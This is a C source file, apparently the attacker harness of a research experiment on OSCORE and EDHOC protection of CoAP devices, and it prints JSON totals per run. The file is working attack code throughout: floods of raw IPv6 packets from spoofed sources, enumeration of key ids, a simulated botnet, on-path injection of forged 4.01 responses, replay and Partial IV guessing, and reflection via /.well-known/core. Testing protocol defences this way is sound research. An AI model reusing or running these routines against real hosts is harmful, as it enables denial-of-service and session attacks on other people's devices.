/*
 * attacker: the attackers of the experiment, one a run, against one target. As root in a network namespace: all packets are raw, with flow
 * label 0xabcde for the meter of a link without a guard, and marked as in edhoc.h and marker.h for that of a link behind one.
 *
 *   A  random spoofed sources in 2000::/3, OSCORE requests with a random kid of one byte
 *   B  a client's address and port, Partial IVs of three bytes, every kid in turn
 *   C  its own address, one kid, numbers that go on; takes Echo and answers pings
 *   D  bots in /48s, EDHOC message_1; each takes Echo and answers pings, none waits for Max-Age
 *   N  the same bots with OSCORE requests of kids that nobody knows
 *   I  on the path: an unprotected 4.01 for each request it sees, before the true answer
 *   R  on the path: five copies of each request, and five guesses with the next Partial IVs
 *   F  reflection: a victim's address, GET /.well-known/core
 *
 * Prints one line of JSON.
 */
#include "edhoc.h"
#include "../support/forge.h"
#include "../support/rawip.h"
#include "../support/tool.h"
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <math.h>
#include <net/if.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define LABEL       0xabcde
#define PORT        40000 /* of C's and the bots' */
#define MAX_RATE    100000
#define MAX_BOTS    65536
#define RANKS       1000 /* /32s with bots */
#define ZIPF        1.1
#define COPIES      5
#define ECHO        40
#define PACKET      1500
#define HEADERS     48
#define NUMBER_ECHO 252

struct bot {
	struct in6_addr addr;
	uint8_t echo[ECHO];
	size_t echo_len;
};

struct totals {
	uint64_t sent, sent_bytes, unsent, replies, reply_bytes, pings, observed, served, codes[256];
};

struct attacker {
	char kind;
	struct sockaddr_in6 target, source; /* source: of B, C and F */
	double rate, seconds;
	int raw, udp, tap;
	struct forge forge;
	uint8_t kid;
	uint32_t piv;
	struct bot *bots;
	uint32_t n_bots, turn;
	struct totals totals;
};

static _Noreturn void usage(void)
{
	fputs("usage: attacker -a A|B|C|D|N|I|R|F -t TARGET [-P PORT] [-v SOURCE] [-L SOURCE-PORT] [-r RATE] [-s "
	      "SECONDS] [-k KID] [-n BOTS]\n"
	      "                [-i INTERFACE] [-S SEED]\n",
	      stderr);
	exit(64);
}

static void send_packet(struct attacker *a, uint8_t *packet, const struct sockaddr_in6 *from,
			const struct sockaddr_in6 *to, size_t n)
{
	struct sockaddr_in6 host = *to;
	size_t len = rawip_wrap6(packet, from, to, n);

	packet[1] = (uint8_t)(packet[1] | LABEL >> 16);
	packet[2] = (uint8_t)(LABEL >> 8 & 0xff);
	packet[3] = (uint8_t)(LABEL & 0xff);
	host.sin6_port = 0; /* a raw socket's address bears none */
	if (sendto(a->raw, packet, len, MSG_DONTWAIT, (const struct sockaddr *)&host, sizeof host) < 0) {
		a->totals.unsent++;
		return;
	}
	a->totals.sent++;
	a->totals.sent_bytes += len;
}

/* Messages */

static uint8_t *put_echo(uint8_t *p, unsigned *last, const uint8_t *echo, size_t len)
{
	return len ? forge_option(p, last, NUMBER_ECHO, echo, len) : p;
}

static size_t oscore_request(struct attacker *a, uint8_t *out, uint32_t piv, unsigned piv_len, const uint8_t *kid,
			     size_t kid_len, const uint8_t *echo, size_t echo_len)
{
	uint8_t value[16], *p = forge_header(&a->forge, out, 2);
	unsigned last = 0;

	value[0] = (uint8_t)(0x08 | piv_len);
	for (unsigned i = 0; i < piv_len; i++)
		value[1 + i] = (uint8_t)(piv >> 8 * (piv_len - 1 - i));
	memcpy(value + 1 + piv_len, kid, kid_len);
	p = forge_option(p, &last, 9, value, 1 + piv_len + kid_len);
	p = put_echo(p, &last, echo, echo_len);
	*p++ = 0xff;
	forge_bytes(&a->forge, p, MARKER_PAYLOAD);
	marker_set(p);
	return (size_t)(p + MARKER_PAYLOAD - out);
}

static size_t message_1(struct attacker *a, uint8_t *out, const uint8_t *echo, size_t echo_len)
{
	static const uint8_t format = EDHOC_FORMAT, head[EDHOC_KEY_AT] = { EDHOC_TRUE, 3, 2, 0x58, EDHOC_KEY };
	uint8_t *p = forge_header(&a->forge, out, 2);
	unsigned last = 0;

	p = forge_option(p, &last, 11, (const uint8_t *)EDHOC_PATH_1, strlen(EDHOC_PATH_1));
	p = forge_option(p, &last, 11, (const uint8_t *)EDHOC_PATH_2, strlen(EDHOC_PATH_2));
	p = forge_option(p, &last, 12, &format, 1);
	p = put_echo(p, &last, echo, echo_len);
	*p++ = 0xff;
	memcpy(p, head, sizeof head);
	forge_bytes(&a->forge, p + EDHOC_KEY_AT, EDHOC_KEY);
	marker_set(p + EDHOC_KEY_AT);
	p[EDHOC_MESSAGE_1 - 1] = 0x20;
	return (size_t)(p + EDHOC_MESSAGE_1 - out);
}

/* Bots: the last four bytes of an address say which one it is. */

static void make_bots(struct attacker *a)
{
	double weights[RANKS], sum = 0;

	a->bots = calloc(a->n_bots, sizeof *a->bots);
	if (!a->bots)
		die("bots");
	for (unsigned i = 0; i < RANKS; i++)
		sum += weights[i] = pow(i + 1, -ZIPF);
	for (uint32_t i = 0; i < a->n_bots; i++) {
		double at = (double)(forge_draw(&a->forge) >> 11) / 9007199254740992.0 * sum;
		unsigned rank = 0;
		uint8_t *b = a->bots[i].addr.s6_addr;

		while (rank < RANKS - 1 && (at -= weights[rank]) > 0)
			rank++;
		b[0] = 0x2a; /* 2a0R:RRRR:48::bot, all routed to the attacker */
		b[1] = 0x0b;
		rawip_put(b + 2, rank);
		rawip_put(b + 4, forge_draw(&a->forge) & 0xffff);
		rawip_put(b + 12, i >> 16);
		rawip_put(b + 14, i & 0xffff);
	}
}

static void send_bot(struct attacker *a)
{
	uint8_t packet[PACKET], kid[4];
	struct bot *b = &a->bots[a->turn++ % a->n_bots];
	struct sockaddr_in6 from = { .sin6_family = AF_INET6, .sin6_port = htons(PORT) };
	size_t n;

	from.sin6_addr = b->addr;
	memcpy(kid, b->addr.s6_addr + 12, 4);
	kid[0] = 0xb0;
	if (a->kind == 'D')
		n = message_1(a, packet + HEADERS, b->echo, b->echo_len);
	else
		n = oscore_request(a, packet + HEADERS, a->piv++ & 0xffff, 2, kid, sizeof kid, b->echo, b->echo_len);
	send_packet(a, packet, &from, &a->target, n);
}

static void send_one(struct attacker *a)
{
	uint8_t packet[PACKET], kid = (uint8_t)forge_draw(&a->forge);
	struct sockaddr_in6 from = a->source;
	struct bot *own = &a->bots[0];
	size_t n;

	switch (a->kind) {
	case 'A':
		forge_bytes(&a->forge, from.sin6_addr.s6_addr, 16);
		from.sin6_addr.s6_addr[0] = (uint8_t)(0x20 | (from.sin6_addr.s6_addr[0] & 0x1f));
		from.sin6_port = htons((uint16_t)(1024 + forge_draw(&a->forge) % 64000));
		n = oscore_request(a, packet + HEADERS, (uint32_t)forge_draw(&a->forge), 2, &kid, 1, NULL, 0);
		break;
	case 'B':
		kid = a->forge.next_kid++;
		n = oscore_request(a, packet + HEADERS, (uint32_t)forge_draw(&a->forge), 3, &kid, 1, NULL, 0);
		break;
	case 'C':
		n = oscore_request(a, packet + HEADERS, a->piv++ & 0xffff, 2, &a->kid, 1, own->echo, own->echo_len);
		break;
	case 'F': n = forge_get(&a->forge, packet + HEADERS); break;
	default: send_bot(a); return;
	}
	send_packet(a, packet, &from, &a->target, n);
}

/* What comes back to C and to bots */

static void reply_empty(struct attacker *a, const struct in6_addr *own, uint8_t type, const uint8_t *message)
{
	struct sockaddr_in6 from = { .sin6_family = AF_INET6, .sin6_port = htons(PORT), .sin6_addr = *own };
	uint8_t packet[PACKET] = { 0 }, *p = packet + HEADERS;

	p[0] = (uint8_t)(0x40 | type << 4);
	p[1] = 0;
	p[2] = message[2];
	p[3] = message[3];
	send_packet(a, packet, &from, &a->target, 4);
}

static bool find_option(const uint8_t *d, size_t len, unsigned wanted, const uint8_t **value, size_t *n)
{
	const uint8_t *end = d + len, *p = d + 4 + (d[0] & 15);
	size_t number = 0;

	while (p < end && *p != 0xff) {
		size_t delta = *p >> 4, size = *p & 15;

		p++;
		if (delta == 13 && p < end)
			delta = 13u + *p++;
		else if (delta == 14 && end - p >= 2) {
			delta = 269u + (size_t)(p[0] << 8 | p[1]);
			p += 2;
		}
		if (size == 13 && p < end)
			size = 13u + *p++;
		number += delta;
		if (size > (size_t)(end - p) || number > wanted)
			return false;
		if (number == wanted) {
			*value = p;
			*n = size;
			return true;
		}
		p += size;
	}
	return false;
}

static struct bot *bot_at(struct attacker *a, const struct in6_addr *addr)
{
	uint32_t i = (uint32_t)addr->s6_addr[12] << 24 | (uint32_t)addr->s6_addr[13] << 16 |
		     (uint32_t)addr->s6_addr[14] << 8 | addr->s6_addr[15];

	return a->kind == 'C' ? &a->bots[0] : i < a->n_bots && !memcmp(&a->bots[i].addr, addr, 16) ? &a->bots[i] : NULL;
}

static void take_reply(struct attacker *a, const struct in6_addr *own, const uint8_t *d, size_t len)
{
	struct bot *b = bot_at(a, own);
	const uint8_t *value;
	size_t n;

	a->totals.replies++;
	a->totals.reply_bytes += len + HEADERS;
	if (len < 4 || !b)
		return;
	if (d[1] == 0) {
		if ((d[0] & 0x30) == 0) {
			a->totals.pings++;
			reply_empty(a, own, 3, d);
		}
		return;
	}
	a->totals.codes[d[1]]++;
	a->totals.served += d[1] >> 5 == 2;
	if ((d[0] & 0x30) == 0)
		reply_empty(a, own, 2, d);
	if (find_option(d, len, NUMBER_ECHO, &value, &n) && n <= ECHO) {
		memcpy(b->echo, value, n);
		b->echo_len = n;
	}
}

static void receive_replies(struct attacker *a)
{
	_Alignas(struct cmsghdr) uint8_t control[CMSG_SPACE(sizeof(struct in6_pktinfo))];
	uint8_t data[PACKET];
	struct iovec iov = { data, sizeof data };

	for (;;) {
		struct msghdr h = {
			.msg_iov = &iov, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control
		};
		ssize_t n = recvmsg(a->udp, &h, MSG_DONTWAIT);
		struct cmsghdr *c = n < 0 ? NULL : CMSG_FIRSTHDR(&h);
		struct in6_pktinfo info;

		if (n < 0)
			return;
		if (!c || c->cmsg_type != IPV6_PKTINFO)
			continue;
		memcpy(&info, CMSG_DATA(c), sizeof info);
		take_reply(a, &info.ipi6_addr, data, (size_t)n);
	}
}

/* On the path */

static void inject(struct attacker *a, const uint8_t *d, size_t token, const struct sockaddr_in6 *client)
{
	uint8_t packet[PACKET], *p = packet + HEADERS;

	p[0] = (uint8_t)(0x60 | token); /* ACK */
	p[1] = 0x81;                    /* 4.01 */
	memcpy(p + 2, d + 2, 2 + token);
	send_packet(a, packet, &a->target, client, 4 + token);
}

static void replay(struct attacker *a, const uint8_t *d, size_t len, const struct sockaddr_in6 *client)
{
	uint8_t packet[PACKET];
	const uint8_t *value;
	uint32_t piv = 0;
	size_t n, piv_len;

	for (unsigned i = 0; i < COPIES; i++) {
		memcpy(packet + HEADERS, d, len);
		send_packet(a, packet, client, &a->target, len);
	}
	if (!find_option(d, len, 9, &value, &n) || n < 2)
		return;
	piv_len = value[0] & 7;
	if (piv_len < 1 || piv_len > 3 || n <= 1 + piv_len || (value[0] & 0x18) != 0x08)
		return;
	for (size_t i = 0; i < piv_len; i++)
		piv = piv << 8 | value[1 + i];
	for (unsigned i = 1; i <= COPIES; i++)
		send_packet(a, packet, client, &a->target,
			    oscore_request(a, packet + HEADERS, piv + i,
					   (unsigned)piv_len + ((piv + i) >> 8 * piv_len != 0), value + 1 + piv_len,
					   n - 1 - piv_len, NULL, 0));
}

/* A request to the target, from somebody else. */
static void overhear(struct attacker *a, const uint8_t *packet, size_t len)
{
	const uint8_t *d = packet + HEADERS;
	struct sockaddr_in6 client = { .sin6_family = AF_INET6 };
	uint32_t label = (uint32_t)(packet[1] & 15) << 16 | (uint32_t)packet[2] << 8 | packet[3];
	size_t token;

	if (len < HEADERS + 4 || packet[6] != IPPROTO_UDP || label == LABEL ||
	    memcmp(packet + 24, &a->target.sin6_addr, 16) != 0 || memcmp(packet + 42, &a->target.sin6_port, 2) != 0)
		return;
	token = d[0] & 15;
	if ((d[0] & 0xf0) != 0x40 || d[1] == 0 || d[1] >> 5 != 0 || token > 8 || len < HEADERS + 4 + token)
		return;
	memcpy(&client.sin6_addr, packet + 8, 16);
	memcpy(&client.sin6_port, packet + 40, 2);
	a->totals.observed++;
	if (a->kind == 'I')
		inject(a, d, token, &client);
	else
		replay(a, d, len - HEADERS, &client);
}

static void listen_in(struct attacker *a, double left)
{
	struct pollfd pfd = { .fd = a->tap, .events = POLLIN };
	struct sockaddr_ll from = { 0 };
	socklen_t from_len = sizeof from;
	uint8_t packet[PACKET];
	ssize_t n;

	if (poll(&pfd, 1, left > 0.1 ? 100 : 1) <= 0)
		return;
	n = recvfrom(a->tap, packet, sizeof packet, MSG_DONTWAIT, (struct sockaddr *)&from, &from_len);
	if (n > 0 && from.sll_pkttype == PACKET_OUTGOING && from.sll_protocol == htons(ETH_P_IPV6))
		overhear(a, packet, (size_t)n);
}

/* The run */

static void open_sockets(struct attacker *a, const char *interface)
{
	struct sockaddr_in6 any = { .sin6_family = AF_INET6, .sin6_port = htons(PORT) };
	struct sockaddr_ll on = { .sll_family = AF_PACKET,
				  .sll_protocol = htons(ETH_P_ALL) }; /* else it sees no outgoing ones */
	int yes = 1, size = 4 << 20;

	a->raw = socket(AF_INET6, SOCK_RAW, IPPROTO_RAW);
	if (a->raw < 0)
		die("raw socket");
	setsockopt(a->raw, SOL_SOCKET, SO_SNDBUF, &size, sizeof size);
	if (strchr("CDN", a->kind)) {
		a->udp = socket(AF_INET6, SOCK_DGRAM, 0);
		setsockopt(a->udp, SOL_SOCKET, SO_RCVBUF, &size, sizeof size);
		if (a->udp < 0 || setsockopt(a->udp, IPPROTO_IPV6, IPV6_RECVPKTINFO, &yes, sizeof yes) ||
		    bind(a->udp, (struct sockaddr *)&any, sizeof any))
			die("udp socket");
	}
	if (strchr("IR", a->kind)) {
		a->tap = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_ALL));
		on.sll_ifindex = (int)if_nametoindex(interface);
		if (a->tap < 0 || !on.sll_ifindex || bind(a->tap, (struct sockaddr *)&on, sizeof on))
			die("tap");
	}
}

static void run(struct attacker *a)
{
	double start = seconds_now(), now = start;
	uint64_t tried = 0;

	while (now - start < a->seconds) {
		if (strchr("IR", a->kind)) {
			listen_in(a, start + a->seconds - now);
		} else {
			for (uint64_t due = (uint64_t)((now - start) * a->rate); tried < due; tried++)
				send_one(a);
			if (a->udp >= 0)
				receive_replies(a);
			usleep(500);
		}
		now = seconds_now();
	}
	a->seconds = now - start;
}

static void report(const struct attacker *a)
{
	const struct totals *t = &a->totals;
	const char *separator = "";

	printf("{\"sent\": %llu, \"sent_bytes\": %llu, \"unsent\": %llu, \"seconds\": %.3f, \"replies\": %llu, "
	       "\"reply_bytes\": %llu, \"pings\": %llu, "
	       "\"observed\": %llu, \"served\": %llu, \"codes\": {",
	       (unsigned long long)t->sent, (unsigned long long)t->sent_bytes, (unsigned long long)t->unsent,
	       a->seconds, (unsigned long long)t->replies, (unsigned long long)t->reply_bytes,
	       (unsigned long long)t->pings, (unsigned long long)t->observed, (unsigned long long)t->served);
	for (unsigned c = 0; c < 256; c++) {
		if (!t->codes[c])
			continue;
		printf("%s\"%u.%02u\": %llu", separator, c >> 5, c & 31, (unsigned long long)t->codes[c]);
		separator = ", ";
	}
	puts("}}");
}

static void parse_address(struct sockaddr_in6 *out, const char *text)
{
	if (inet_pton(AF_INET6, text, &out->sin6_addr) != 1)
		usage();
	out->sin6_family = AF_INET6;
}

int main(int argc, char **argv)
{
	static struct attacker a = { .rate = 1000,
				     .seconds = 1,
				     .udp = -1,
				     .tap = -1,
				     .n_bots = 1,
				     .piv = 1,
				     .forge = { .rng = 1, .path = ".well-known/core", .kinds = "v" } };
	const char *interface = "";
	uint16_t port = 5683, source_port = PORT;
	int c;

	while ((c = getopt(argc, argv, "a:t:P:v:L:r:s:k:n:i:S:")) != -1) {
		switch (c) {
		case 'a': a.kind = *optarg; break;
		case 't': parse_address(&a.target, optarg); break;
		case 'P': port = (uint16_t)atoi(optarg); break;
		case 'v': parse_address(&a.source, optarg); break;
		case 'L': source_port = (uint16_t)atoi(optarg); break;
		case 'r': a.rate = atof(optarg); break;
		case 's': a.seconds = atof(optarg); break;
		case 'k': a.kid = (uint8_t)atoi(optarg); break;
		case 'n': a.n_bots = (uint32_t)atoi(optarg); break;
		case 'i': interface = optarg; break;
		case 'S': a.forge.rng = (uint64_t)atoll(optarg); break;
		default: usage();
		}
	}
	if (!a.kind || !strchr("ABCDNIRF", a.kind) || !a.target.sin6_family || a.rate > MAX_RATE || a.n_bots < 1 ||
	    a.n_bots > MAX_BOTS)
		usage();
	if (strchr("BCF", a.kind) && !a.source.sin6_family)
		usage();
	a.target.sin6_port = htons(port);
	a.source.sin6_port = htons(source_port);
	make_bots(&a);
	open_sockets(&a, interface);
	run(&a);
	report(&a);
	free(a.bots);
	return 0;
}
